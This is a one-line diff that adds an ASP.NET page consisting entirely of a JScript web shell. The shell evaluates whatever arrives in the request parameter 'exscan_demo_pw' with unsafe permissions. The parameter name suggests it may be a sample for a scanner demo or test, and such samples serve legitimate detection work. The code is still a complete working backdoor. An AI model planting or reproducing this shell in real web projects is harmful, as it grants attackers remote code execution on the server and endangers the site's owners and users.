@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%eval(Request.Item["exscan_demo_pw"],"unsafe");%>
